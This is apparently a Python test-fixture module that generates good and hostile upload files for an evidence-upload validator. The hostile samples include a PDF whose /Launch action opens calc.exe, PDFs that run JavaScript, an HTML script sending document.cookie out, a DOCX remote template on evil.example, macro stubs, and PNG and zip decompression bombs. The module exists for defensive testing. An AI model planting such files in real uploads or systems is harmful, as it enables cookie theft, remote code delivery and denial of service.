"""Evidence files, good and hostile, built in code (issue 18): each shows exactly what an
uploader would send. Used by tests/security/test_evidence_files.py, tests/unit/test_evidence.py
and tools/evidence_figures.py (refusal time and memory per hostile file, for SECURITY.md).

PDFs are written by hand (`pdf`), with a correct cross-reference table, so that a refusal is
for the feature under test and not for a damaged file.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

NIK = "3201234567890123"  # 16 digits, not zero-led: a NIK/KK by metrics.personal's rule
MB = 1024 * 1024


# ---------------------------------------------------------------------------------------- PDF


def pdf(objects: list[bytes], trailer_extra: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF whose object n (1-based) is objects[n-1]; object 1 is the catalog."""
    out = io.BytesIO()
    out.write(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer_extra + b">>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(data) + extra + b">>\nstream\n" + data + b"\nendstream"


def _text_page(text: str) -> bytes:
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")
    return b"BT /F1 14 Tf 72 720 Td (" + escaped + b") Tj ET"


def text_pdf(*pages: str, catalog_extra: bytes = b"", more: tuple[bytes, ...] = ()) -> bytes:
    """A PDF with one page per text (Helvetica, so pdfium reads the text back).

    Objects: 1 catalog, 2 pages, 3 font, then per page its page and content objects, then `more`
    (numbered from 4 + 2 * len(pages)).
    """
    n = len(pages)
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(n))
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for i, text in enumerate(pages):
        objs.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents %d 0 R >>" % (5 + 2 * i)
        )
        objs.append(_stream(_text_page(text)))
    return pdf(objs + list(more))


def good_pdf() -> bytes:
    return text_pdf("Peraturan Wali Kota Nomor 12 Tahun 2023 tentang Smart City", "Lampiran: 188.45/123/2024")


def pdf_javascript_openaction() -> bytes:
    """/OpenAction running JavaScript when the document opens."""
    js = 6  # after catalog, pages, font, page, content
    return text_pdf(
        "Laporan",
        catalog_extra=b"/OpenAction %d 0 R " % js,
        more=(b"<< /S /JavaScript /JS (app.alert(1)) >>",),
    )


def pdf_javascript_names() -> bytes:
    """Document-level JavaScript in the /Names tree."""
    return text_pdf(
        "Laporan",
        catalog_extra=b"/Names << /JavaScript 6 0 R >> ",
        more=(b"<< /Names [(x) 7 0 R] >>", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    )


def pdf_javascript_hex_name() -> bytes:
    """The JavaScript action type spelled with a hex escape (/J#61vaScript)."""
    return text_pdf("Laporan", catalog_extra=b"/OpenAction 6 0 R ", more=(b"<< /S /J#61vaScript /JS (x) >>",))


def pdf_launch() -> bytes:
    return text_pdf("Laporan", catalog_extra=b"/OpenAction 6 0 R ", more=(b"<< /S /Launch /F (calc.exe) >>",))


def pdf_embedded_file() -> bytes:
    return text_pdf(
        "Laporan",
        catalog_extra=b"/Names << /EmbeddedFiles 6 0 R >> ",
        more=(
            b"<< /Names [(a.exe) 7 0 R] >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
            _stream(b"MZ\x90\x00", b"/Type /EmbeddedFile "),
        ),
    )


def pdf_additional_actions() -> bytes:
    """/AA on the catalog (actions on close, save, print)."""
    return text_pdf(
        "Laporan", catalog_extra=b"/AA << /WC 6 0 R >> ", more=(b"<< /S /URI /URI (https://x.example) >>",)
    )


def pdf_xfa() -> bytes:
    return text_pdf(
        "Laporan",
        catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
        more=(_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),),
    )


def pdf_open_at_first_page() -> bytes:
    """A harmless /OpenAction (go to page 1): accepted."""
    return text_pdf("Peraturan Wali Kota", catalog_extra=b"/OpenAction [4 0 R /Fit] ")


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    w.encrypt(user_password="", owner_password="rahasia", algorithm="AES-128")
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def malformed_pdf() -> bytes:
    """A PDF header over garbage: no objects, no cross-reference table."""
    return b"%PDF-1.7\n" + b"\x00garbage " * 200 + b"\n%%EOF\n"


def truncated_pdf() -> bytes:
    data = good_pdf()
    return data[: len(data) // 2]


def pdf_with_nik() -> bytes:
    return text_pdf("Daftar hadir rapat", f"Nama: Budi, NIK {NIK}, Kelurahan Sukamaju")


def pdf_without_text() -> bytes:
    """A page with a drawn rectangle and no text (like a scan): accepted, flagged."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            _stream(b"0 0 1 rg 20 20 100 100 re f"),
        ]
    )


# ----------------------------------------------------------------------------------- not allowed


def renamed_elf() -> bytes:
    """A Linux executable's header (named .pdf by the test)."""
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200


def renamed_exe() -> bytes:
    """A Windows executable's header (MZ ... PE), named .pdf by the test."""
    return b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200


def html_file() -> bytes:
    """HTML with a script (named .png by the test)."""
    return b"<!DOCTYPE html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>"


def svg_file() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def js_file() -> bytes:
    return b"alert(document.cookie);\n"


def oversized_pdf() -> bytes:
    """A PDF header followed by padding: 10 MB + 1 byte."""
    head = b"%PDF-1.7\n"
    return head + b" " * (10 * MB + 1 - len(head))


# ---------------------------------------------------------------------------------------- images


def _image(fmt: str, mode: str = "RGB", size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    from PIL import Image

    im = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else 128)
    out = io.BytesIO()
    im.save(out, fmt, **save)
    return out.getvalue()


def good_png() -> bytes:
    return _image("PNG")


def good_jpeg() -> bytes:
    return _image("JPEG")


def jpeg_with_gps() -> bytes:
    """A photo with camera and GPS EXIF (Jakarta, Monas), a text comment, orientation 6."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "KameraHP"  # Make
    exif[0x0110] = "Model X"  # Model
    exif[0x0131] = "Editor 1.0"  # Software
    exif[0x0112] = 6  # Orientation: rotate 90
    gps = {
        1: "S",  # GPSLatitudeRef
        2: (6.0, 10.0, 31.0),  # GPSLatitude
        3: "E",  # GPSLongitudeRef
        4: (106.0, 49.0, 37.0),  # GPSLongitude
    }
    exif[0x8825] = gps  # GPS IFD
    im = Image.new("RGB", (64, 48), (10, 120, 200))
    out = io.BytesIO()
    im.save(out, "JPEG", exif=exif, comment=b"rumah pak RT")
    return out.getvalue()


def png_with_text_chunks() -> bytes:
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Budi")
    info.add_text("Location", "-6.175,106.827")
    im = Image.new("RGBA", (32, 32), (0, 0, 0, 0))
    out = io.BytesIO()
    im.save(out, "PNG", pnginfo=info)
    return out.getvalue()


@functools.cache
def png_bomb() -> bytes:
    """A 30,000 x 30,000 one-bit PNG of zeros: about 100 KB that decode to 900 megapixels."""
    w = h = 30_000
    row = b"\x00" + b"\x00" * (w // 8)
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row * 1000) for _ in range(h // 1000)) + comp.flush()

    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", idat)
        + chunk(b"IEND", b"")
    )


def png_over_pixel_limit() -> bytes:
    """A header of 60 megapixels (over the 40 MP limit, under Pillow's own bomb error)."""
    w, h = 10_000, 6_000

    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    idat = zlib.compress((b"\x00" + b"\x00" * w) * 10)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", idat)
        + chunk(b"IEND", b"")
    )


def animated_png() -> bytes:
    from PIL import Image

    frames = [Image.new("RGB", (16, 16), c) for c in ((255, 0, 0), (0, 255, 0))]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def truncated_jpeg() -> bytes:
    data = _image("JPEG", size=(400, 300))
    return data[: len(data) // 3]


# ---------------------------------------------------------------------------------- office files

_CT_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_W = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, content in parts.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), content, compress_type=method)
    return buf.getvalue()


def docx_parts(*paragraphs: str, doc_rels: bytes = b"") -> dict[str, bytes]:
    body = b"".join(
        b"<w:p><w:r><w:t xml:space='preserve'>" + p.encode() + b"</w:t></w:r></w:p>" for p in paragraphs
    )
    return {
        "[Content_Types].xml": _CT_HEAD
        + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        b"</Types>",
        "_rels/.rels": _CT_HEAD
        + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="' + _R + b'/officeDocument" Target="word/document.xml"/>'
        b"</Relationships>",
        "word/document.xml": _CT_HEAD
        + b'<w:document xmlns:w="'
        + _W
        + b'" xmlns:r="'
        + _R
        + b'"><w:body>'
        + body
        + b"</w:body></w:document>",
        "word/_rels/document.xml.rels": _CT_HEAD
        + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + doc_rels
        + b"</Relationships>",
    }


def good_docx() -> bytes:
    return _zip(
        docx_parts(
            "Surat Keputusan Wali Kota Nomor 188.45/123/2024",
            "tentang Tim Pelaksana Smart City",
            doc_rels=b'<Relationship Id="rId9" Type="' + _R + b'/hyperlink" '
            b'Target="https://jdih.example.go.id/perwali-12" TargetMode="External"/>',
        )
    )


def docx_with_nik() -> bytes:
    # the number split over two runs, as Word often stores text
    parts = docx_parts("Daftar peserta pelatihan")
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"</w:body>",
        b"<w:p><w:r><w:t>Siti, NIK 3201 2345</w:t></w:r><w:r><w:t> 6789 0123</w:t></w:r></w:p></w:body>",
    )
    return _zip(parts)


def docx_with_macro() -> bytes:
    parts = docx_parts("Laporan")
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 500
    return _zip(parts)


def docx_remote_template() -> bytes:
    """Template injection: settings.xml.rels pointing at a remote .dotm."""
    parts = docx_parts("Laporan")
    parts["word/settings.xml"] = _CT_HEAD + b'<w:settings xmlns:w="' + _W + b'"/>'
    parts["word/_rels/settings.xml.rels"] = (
        _CT_HEAD + b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="' + _R + b'/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return _zip(parts)


def zip_bomb_docx() -> bytes:
    """A .docx with a 19 MB entry of zeros (about 19 KB compressed: a ratio near 1,000:1)."""
    parts = docx_parts("Laporan")
    parts["word/media/image1.png"] = b"\x00" * (19 * MB)
    return _zip(parts)


def zip_bomb_docx_forged() -> bytes:
    """A .docx whose big entry claims 1 KB in its headers but inflates to 19 MB."""
    data = zip_bomb_docx()
    name = b"word/media/image1.png"
    real = struct.pack("<I", 19 * MB)
    fake = struct.pack("<I", 1024)
    # uncompressed size in the local header (offset 22) and the central directory (offset 24)
    out = bytearray(data)
    i = out.find(b"PK\x03\x04" + out[4:4])  # first local header
    while i >= 0:
        n_len = struct.unpack_from("<H", out, i + 26)[0]
        if bytes(out[i + 30 : i + 30 + n_len]) == name:
            out[i + 22 : i + 26] = fake
        i = out.find(b"PK\x03\x04", i + 4)
    j = out.find(b"PK\x01\x02")
    while j >= 0:
        n_len = struct.unpack_from("<H", out, j + 28)[0]
        if bytes(out[j + 46 : j + 46 + n_len]) == name and bytes(out[j + 24 : j + 28]) == real:
            out[j + 24 : j + 28] = fake
        j = out.find(b"PK\x01\x02", j + 4)
    return bytes(out)


def plain_zip() -> bytes:
    return _zip({"a.txt": b"hello"})


def good_xlsx(
    rows: tuple[tuple[object, ...], ...] = (("Program", "Anggaran"), ("Dashboard", 125000000)),
) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    for r in rows:
        ws.append(list(r))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def xlsx_with_nik() -> bytes:
    return good_xlsx((("Nama", "NIK"), ("Budi", NIK)))


def xlsx_with_macro() -> bytes:
    parts = {}
    with zipfile.ZipFile(io.BytesIO(good_xlsx())) as zf:
        for info in zf.infolist():
            parts[info.filename] = zf.read(info)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 500
    return _zip(parts)


# ------------------------------------------------------------------------------- the catalogue

# name -> (file name the uploader gives, generator, the refusal's message key): every hostile
# sample the tests and tools/evidence_figures.py run
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "renamed ELF executable": ("laporan.pdf", renamed_elf, "evidence.type"),
    "renamed Windows executable": ("laporan.pdf", renamed_exe, "evidence.type"),
    "HTML named .png": ("foto.png", html_file, "evidence.type"),
    "SVG named .png": ("foto.png", svg_file, "evidence.type"),
    "JavaScript named .pdf": ("laporan.pdf", js_file, "evidence.type"),
    "oversized (10 MB + 1)": ("besar.pdf", oversized_pdf, "evidence.too_large"),
    "encrypted PDF": ("rahasia.pdf", encrypted_pdf, "evidence.pdf_encrypted"),
    "malformed PDF": ("rusak.pdf", malformed_pdf, "evidence.pdf_malformed"),
    "truncated PDF": ("potong.pdf", truncated_pdf, "evidence.pdf_malformed"),
    "PDF /OpenAction JavaScript": ("js.pdf", pdf_javascript_openaction, "evidence.pdf_active"),
    "PDF document JavaScript": ("js2.pdf", pdf_javascript_names, "evidence.pdf_active"),
    "PDF hex-escaped /JavaScript": ("js3.pdf", pdf_javascript_hex_name, "evidence.pdf_active"),
    "PDF /Launch": ("launch.pdf", pdf_launch, "evidence.pdf_active"),
    "PDF embedded file": ("embed.pdf", pdf_embedded_file, "evidence.pdf_active"),
    "PDF /AA actions": ("aa.pdf", pdf_additional_actions, "evidence.pdf_active"),
    "PDF XFA form": ("xfa.pdf", pdf_xfa, "evidence.pdf_active"),
    "PDF with a NIK": ("hadir.pdf", pdf_with_nik, "evidence.personal_page"),
    "PNG decompression bomb (900 MP)": ("bom.png", png_bomb, "evidence.image_too_big"),
    "PNG over the pixel limit (60 MP)": ("besar.png", png_over_pixel_limit, "evidence.image_too_big"),
    "animated PNG": ("anim.png", animated_png, "evidence.image_animated"),
    "truncated JPEG": ("potong.jpg", truncated_jpeg, "evidence.image_bad"),
    "zip-bomb DOCX (ratio)": ("bom.docx", zip_bomb_docx, "evidence.office.zip_ratio"),
    "zip-bomb DOCX (forged sizes)": ("bom2.docx", zip_bomb_docx_forged, "evidence.office.zip_bad"),
    "DOCX with a macro": ("makro.docx", docx_with_macro, "evidence.office.active"),
    "DOCX remote template": ("templat.docx", docx_remote_template, "evidence.office.active"),
    "DOCX with a NIK": ("peserta.docx", docx_with_nik, "evidence.personal_paragraph"),
    "XLSX with a macro": ("makro.xlsx", xlsx_with_macro, "evidence.office.active"),
    "XLSX with a NIK": ("peserta.xlsx", xlsx_with_nik, "evidence.personal_cell"),
    "plain zip": ("arsip.docx", plain_zip, "evidence.office.not_office"),
}

GOOD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "PDF": ("perwali.pdf", good_pdf, "application/pdf"),
    "PDF opening at page 1": ("buka.pdf", pdf_open_at_first_page, "application/pdf"),
    "JPEG": ("foto.jpg", good_jpeg, "image/jpeg"),
    "PNG": ("layar.png", good_png, "image/png"),
    "XLSX": ("data.xlsx", good_xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "DOCX": ("sk.docx", good_docx, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
}
